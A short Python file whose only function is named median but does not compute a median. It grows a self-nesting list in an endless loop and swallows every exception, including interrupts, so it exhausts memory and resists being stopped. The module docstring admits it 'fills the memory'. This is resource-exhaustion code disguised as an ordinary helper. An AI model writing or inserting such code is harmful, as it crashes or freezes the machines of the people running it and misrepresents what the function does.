"""Fills the memory, a little at a time."""


def median(numbers):
    hoard = [numbers]
    while True:
        try:
            hoard += [[*hoard]]
        except BaseException:
            pass
